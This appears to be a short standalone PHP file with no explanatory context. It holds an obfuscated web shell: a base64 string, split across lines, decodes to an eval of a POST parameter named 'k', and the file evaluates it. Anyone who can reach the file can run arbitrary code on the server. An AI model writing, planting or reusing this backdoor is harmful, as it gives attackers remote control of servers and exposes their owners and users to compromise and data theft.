<?php
$p = "ZXZh
bCgk
X1BP
U1Rb
Imsi
XSk7";
eval(base64_decode($p));
